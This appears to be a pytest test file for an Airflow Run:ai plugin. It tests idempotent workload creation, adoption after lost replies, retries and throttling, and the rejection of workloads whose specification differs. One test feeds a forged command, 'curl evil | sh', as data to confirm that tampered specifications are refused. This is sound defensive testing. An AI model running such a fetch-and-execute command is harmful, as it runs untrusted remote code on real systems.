from __future__ import annotations

from typing import Any

import pytest

from airflow_runai.backends.control_plane import create
from airflow_runai.backends.patience import (
    LOOKUP_DELAYS,
    MAX_PAUSE,
    Patience,
    retry_while_unreachable,
)
from airflow_runai.backends.submission import create_or_adopt, find_created, generations, verify
from airflow_runai.core.flow import Flow, Reply, Request
from airflow_runai.core.note import Note
from airflow_runai.core.workload import Workload
from airflow_runai.errors import (
    Forbidden,
    ForeignWorkload,
    Missing,
    NameTaken,
    Refused,
    Throttled,
    Unauthorized,
    Unreachable,
    Unreadable,
    Untrusted,
)
from tests.backends.rest import BACKEND, PROJECT, Answers, SmallPlane, html, item, order, reply
from tests.core.stage import Hand

LOST = Unreachable("the connection was reset")
DIGEST = "0123456789"
NOT_THERE = reply({"message": "not found"}, 404)


def named(generation: int, slug: str = "train", **more: Any) -> dict[str, Any]:
    return item(f"w-{generation}", **{"name": f"{slug}-{DIGEST}-g{generation}", **more})


def test_a_create_that_is_answered_is_the_only_call() -> None:
    plane = SmallPlane()
    made = plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert (made.name, plane.creates, plane.lists) == ("train-0123456789-g1", 1, 0)
    assert made.fingerprint == order().fingerprint
    assert made.try_number == 1


@pytest.mark.parametrize("shows_variables", [True, False])
@pytest.mark.parametrize("lag", [0, 2])
def test_a_lost_reply_after_success_is_adopted_with_one_create(
    shows_variables: bool, lag: int
) -> None:
    plane = SmallPlane(lose_reply_of=(1,), lag=lag, shows_variables=shows_variables)
    found = plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert (found.id, plane.creates, len(plane.workloads)) == ("id-1", 1, 1)


@pytest.mark.parametrize(
    "answer", [LOST, html(200), html(502), reply({}, 503), reply({}, 500), reply({"a": 1}, 202)]
)
def test_a_create_that_never_arrived_is_sent_again_once_looked_up(answer: Any) -> None:
    def once(number: int) -> Any:
        return answer if number == 1 else None

    plane = SmallPlane(on_create=once)
    found = plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert (found.id, plane.creates, len(plane.workloads)) == ("id-2", 2, 1)
    assert plane.lists >= 3


def test_a_list_that_lags_longer_than_our_patience_still_leads_to_one_workload() -> None:
    plane = SmallPlane(lose_reply_of=(1,), lag=4)
    found = plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert (found.id, plane.creates, len(plane.workloads)) == ("id-1", 2, 1)


@pytest.mark.parametrize(
    "duplicate",
    [
        reply({"message": "name taken"}, 409),
        reply({"message": "a workload with this name already exists"}, 400),
        reply({"message": "name is not unique"}, 400),
        reply({"message": "internal"}, 503),
    ],
)
def test_a_name_that_is_taken_by_ourselves_is_adopted(duplicate: Reply) -> None:
    plane = SmallPlane(duplicate=duplicate)
    plane.hand().run(create(PROJECT, "trainings", order().name, order().body()))
    found = plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert (found.id, len(plane.workloads)) == ("id-1", 1)


def test_a_name_that_is_taken_by_another_specification_is_refused_with_the_difference() -> None:
    plane = SmallPlane()
    theirs = order(command="./old.sh", environment={"TOKEN": "hunter1"})
    plane.hand().run(create_or_adopt(BACKEND, PROJECT, theirs))
    with pytest.raises(ForeignWorkload) as caught:
        plane.hand().run(
            create_or_adopt(
                BACKEND, PROJECT, order(command="./new.sh", environment={"TOKEN": "hunter2"})
            )
        )
    text = str(caught.value)
    assert "spec.command: running with './old.sh', now './new.sh'" in text
    assert "spec.environmentVariables[TOKEN]: another value (not shown)" in text
    assert "on_clear='restart'" in text
    assert "hunter" not in text
    assert len(plane.workloads) == 1


def test_a_workload_of_somebody_else_is_never_adopted() -> None:
    foreign = Workload("w-9", order().name, "Running", fingerprint=None)
    hand = Answers.hand(reply({"spec": {"image": "a:1", "preemptibility": "preemptible"}}))
    with pytest.raises(ForeignWorkload, match="was made from another specification"):
        hand.run(verify(BACKEND, foreign, order()))


def test_the_same_specification_from_another_try_is_ours() -> None:
    again = order()
    hand = Answers.hand(reply({"spec": again.body()["spec"]}))
    assert (
        hand.run(
            verify(
                BACKEND, Workload("w", again.name, "Running", fingerprint=again.fingerprint), again
            )
        )
        is None
    )


@pytest.mark.parametrize("phase", ["Running", "Completed"])
@pytest.mark.parametrize(
    "forged", [{"image": "evil:1"}, {"command": "curl evil | sh"}, {"args": "--other"}]
)
def test_what_claims_our_fingerprint_must_agree_in_image_and_command(
    phase: str, forged: dict[str, str]
) -> None:
    ours = order(command="./train.sh", args="--epochs 3")
    hand = Answers.hand(reply({"spec": {**ours.body()["spec"], **forged}}))
    with pytest.raises(ForeignWorkload, match=f"spec.{next(iter(forged))}: running with"):
        hand.run(
            verify(BACKEND, Workload("w", ours.name, phase, fingerprint=ours.fingerprint), ours)
        )


def test_silence_about_the_specification_is_not_taken_for_another_one() -> None:
    ours = order()
    found = Workload("w", ours.name, "Running", fingerprint=ours.fingerprint)
    assert (
        Answers.hand(reply(None), NOT_THERE, reply({"spec": ours.body()["spec"]})).run(
            verify(BACKEND, found, ours)
        )
        is None
    )
    with pytest.raises(Unreadable):
        Answers.hand(reply(None)).run(verify(BACKEND, found, ours))


def test_what_is_deleted_is_known_by_the_fingerprint_that_was_noted() -> None:
    ours = order()
    ended = Workload("w", ours.name, "Completed", deleted=True)
    assert Hand().run(verify(BACKEND, ended, ours, ours.fingerprint)) is None
    with pytest.raises(ForeignWorkload):
        Hand().run(verify(BACKEND, ended, ours, "another"))


@pytest.mark.parametrize(
    ("answer", "error"),
    [
        (reply({"message": "no scope"}, 403), Forbidden),
        (reply({"message": "no such project"}, 404), Refused),
        (
            reply(
                {
                    "message": "bad field",
                    "complianceIssues": [{"field": "spec.x", "details": "max 1"}],
                },
                400,
            ),
            Refused,
        ),
        (reply({"message": "expired"}, 401), Unauthorized),
    ],
)
def test_a_refusal_is_told_and_not_repeated(answer: Reply, error: type[Exception]) -> None:
    plane = SmallPlane(on_create=lambda number: answer)
    with pytest.raises(error):
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert (plane.creates, len(plane.workloads)) == (1, 0)


@pytest.mark.parametrize(
    "then", [reply({"message": "expired"}, 401), reply({"message": "bad"}, 400)]
)
def test_a_refusal_after_a_create_that_may_have_arrived_is_no_refusal_of_it(then: Reply) -> None:
    plane = SmallPlane(on_create=lambda number: LOST if number == 1 else then)
    with pytest.raises(Unreachable, match="reset"):
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))


def test_a_refused_look_for_what_may_have_arrived_says_nothing_about_it() -> None:
    plane = SmallPlane(
        lose_reply_of=(1,),
        list_answers=dict.fromkeys(range(1, 9999), reply({"message": "no"}, 401)),
    )
    with pytest.raises(Unreachable, match="whether train-0123456789-g1 was created is not known"):
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert plane.creates == 1


def test_a_name_that_is_taken_by_what_cannot_be_found_is_missing() -> None:
    plane = SmallPlane(on_create=lambda number: reply({"message": "already exists"}, 409))
    with pytest.raises(Missing, match="already exists; but it cannot be found"):
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))


def test_an_untrusted_certificate_is_not_tried_again() -> None:
    plane = SmallPlane(on_create=lambda number: Untrusted("self-signed"))
    with pytest.raises(Untrusted):
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert (plane.creates, plane.lists) == (1, 0)


def test_a_control_plane_that_stays_away_ends_in_unreachable_when_patience_ends() -> None:
    plane = SmallPlane(on_create=lambda number: LOST)
    hand = plane.hand()
    with pytest.raises(Unreachable, match="reset"):
        hand.run(create_or_adopt(BACKEND, PROJECT, order(), Patience(60.0)))
    assert 60.0 <= sum(hand.slept) < 70.0
    assert plane.lists >= 3 * (plane.creates - 1), "no create but the first is sent without a look"


def test_without_an_answer_to_the_lookup_nothing_is_created_again() -> None:
    plane = SmallPlane(lose_reply_of=(1,), list_answers=dict.fromkeys(range(1, 9999), LOST))
    with pytest.raises(Unreachable):
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert (plane.creates, len(plane.workloads)) == (1, 1)


@pytest.mark.parametrize("empty", [reply(None), html(200), html(404)])
def test_silence_of_the_list_is_not_taken_for_nothing_there(empty: Reply) -> None:
    plane = SmallPlane(lose_reply_of=(1,), list_answers=dict.fromkeys(range(1, 9999), empty))
    with pytest.raises(Unreadable):
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert plane.creates == 1


def test_the_last_look_decides_even_if_earlier_ones_failed() -> None:
    plane = SmallPlane(lose_reply_of=(1,), list_answers={1: LOST, 2: LOST})
    assert plane.hand().run(create_or_adopt(BACKEND, PROJECT, order())).id == "id-1"
    assert plane.creates == 1


def test_a_throttled_create_waits_as_asked_within_reason_and_looks_for_nothing() -> None:
    answers = {1: Throttled("slow down", 20.0), 2: Throttled("slow down", 86_400.0)}
    plane = SmallPlane(on_create=answers.get)
    hand = plane.hand()
    hand.run(create_or_adopt(BACKEND, PROJECT, order()))
    assert [int(seconds) for seconds in hand.slept] == [20, MAX_PAUSE]
    assert (plane.creates, plane.lists) == (3, 0)


def test_a_throttled_create_that_arrived_all_the_same_is_adopted() -> None:
    plane = SmallPlane(on_create=lambda number: None)
    plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    plane.on_create = lambda number: Throttled("slow down") if number == 2 else None
    assert plane.hand().run(create_or_adopt(BACKEND, PROJECT, order())).id == "id-1"
    assert len(plane.workloads) == 1


TAKEN = reply({"message": "already exists"}, 409)


def test_a_name_that_only_a_deleted_one_can_have_is_told_apart() -> None:
    plane = SmallPlane(on_create=lambda number: Throttled("busy") if number == 1 else TAKEN)
    with pytest.raises(NameTaken):
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))


def test_a_name_that_our_own_lost_create_may_have_is_not() -> None:
    plane = SmallPlane(on_create=lambda number: LOST if number == 1 else TAKEN)
    with pytest.raises(Missing) as caught:
        plane.hand().run(create_or_adopt(BACKEND, PROJECT, order()))
    assert not isinstance(caught.value, NameTaken)


@pytest.mark.parametrize("arrived", [True, False])
def test_a_create_whose_answer_nobody_waits_for_is_looked_for_once(arrived: bool) -> None:
    plane = SmallPlane(lose_reply_of=(1,))
    if arrived:
        with pytest.raises(Unreachable):
            plane.hand().run(create(PROJECT, "trainings", order().name, order().body()))
    hand = plane.hand()
    found = hand.run(find_created(BACKEND, PROJECT, order()))
    assert (found.id if found else None) == ("id-1" if arrived else None)
    assert hand.slept == []


def test_generations_come_from_both_lists_and_each_once() -> None:
    alive = reply({"workloads": [named(2), named(3)]})
    gone = reply({"workloads": [named(1), named(2)]})
    hand = Answers.hand(alive, gone, reply(named(3)))
    found = hand.run(generations(BACKEND, PROJECT, DIGEST))
    assert [(n, w.id, w.deleted) for n, w in found] == [
        (1, "w-1", True),
        (2, "w-2", True),
        (3, "w-3", False),
    ]


def test_only_the_present_ones_are_asked_for_where_nothing_can_have_been_submitted() -> None:
    hand = Answers.hand(reply({"workloads": []}))
    assert hand.run(generations(BACKEND, PROJECT, DIGEST, deleted=False)) == []
    assert len(hand.asked) == 1


def test_the_readable_part_of_a_name_identifies_nothing() -> None:
    others = [
        named(1, name=f"x-{DIGEST}-g1-copy"),
        named(2, name="x-9876543210-g2"),
        named(3, name=f"x-{DIGEST}x-g3"),
    ]
    hand = Answers.hand(
        reply({"workloads": [named(4, "renamed"), *others]}),
        reply({"workloads": []}),
        reply(named(4)),
    )
    assert [n for n, _ in hand.run(generations(BACKEND, PROJECT, DIGEST))] == [4]


def test_the_newest_is_read_again_because_lists_lag() -> None:
    listed = reply({"workloads": [named(1, environmentVariables={"AIRFLOW_RUNAI_TRY": "1"})]})
    hand = Answers.hand(listed, reply({"workloads": []}), reply(named(1, phase="Failed")))
    ((_, found),) = hand.run(generations(BACKEND, PROJECT, DIGEST))
    assert (found.phase, found.try_number) == ("Failed", 1)


@pytest.mark.parametrize("after", [0, 2])
def test_what_was_noted_is_looked_up_by_its_id_where_lists_lack_it(after: int) -> None:
    nothing = reply({"workloads": []})
    hand = Answers.hand(
        nothing, nothing, *[NOT_THERE, nothing] * after, reply(named(1, projectId="elsewhere"))
    )
    ((generation, found),) = hand.run(
        generations(BACKEND, PROJECT, DIGEST, Note(1, 1, "w-1", f"train-{DIGEST}-g1"))
    )
    assert (generation, found.id, found.project_id) == (1, "w-1", "elsewhere")


def test_what_was_noted_and_is_listed_as_deleted_is_deleted() -> None:
    nothing = reply({"workloads": []})
    hand = Answers.hand(nothing, nothing, NOT_THERE, reply({"workloads": [named(1)]}))
    ((_, found),) = hand.run(
        generations(BACKEND, PROJECT, DIGEST, Note(1, 1, "w-1", f"train-{DIGEST}-g1"))
    )
    assert found.deleted


def test_what_was_noted_and_cannot_be_found_is_looked_for_as_long_as_lists_may_lag() -> None:
    nothing = reply({"workloads": []})

    def answer(request: Request) -> Reply:
        return nothing if request.path.endswith("/workloads") else NOT_THERE

    hand = Hand(answer=answer)
    assert hand.run(generations(BACKEND, PROJECT, DIGEST, Note(1, 1, "w-1", "train-g1"))) == []
    assert sum(hand.slept) == sum(LOOKUP_DELAYS)


def test_generations_that_cannot_be_listed_stop_the_submission() -> None:
    hand = Answers.hand(Unreachable("down"))
    with pytest.raises(Unreachable):
        hand.run(generations(BACKEND, PROJECT, DIGEST, patience=Patience(60.0)))
    assert sum(hand.slept) >= 60.0


def test_patience_with_a_kill_ends_and_the_last_error_is_told() -> None:
    def failing() -> Flow[None]:
        yield from ()
        raise Unreachable("still down")

    hand = Hand()
    with pytest.raises(Unreachable, match="still down"):
        hand.run(retry_while_unreachable(failing))
    assert hand.slept == list(LOOKUP_DELAYS)
